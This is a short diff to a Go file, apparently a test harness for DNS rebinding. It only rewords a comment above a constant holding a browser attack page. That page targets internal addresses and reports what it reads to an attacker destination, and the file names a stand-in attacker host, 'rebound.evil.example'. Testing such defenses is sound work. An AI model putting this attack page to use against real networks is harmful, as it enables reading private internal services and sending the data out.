@@ -19,9 +19,9 @@ import (
 // admin address afterwards.
 const reboundName = "rebound.evil.example"
 
-// attackPage tries all requests that a page can make, and reports what it could
-// read. TARGET is the origin of an internal address, REPORT the destination of
-// the report, THIEF an engine of the attacker, ENGINE the name of a real one.
+// attackPage tries all requests that a page can make, and reports the answers that it
+// could read. TARGET is the origin of an internal address, REPORT the destination of the
+// report, THIEF an engine of the attacker, ENGINE the name of a real one.
 const attackPage = `<!doctype html><title>attack</title><body><script>
 const target = 'TARGET', reads = [], tried = []
 const within = (ms, p) => Promise.race([p, new Promise((_, no) => setTimeout(() => no(new Error('time')), ms))])
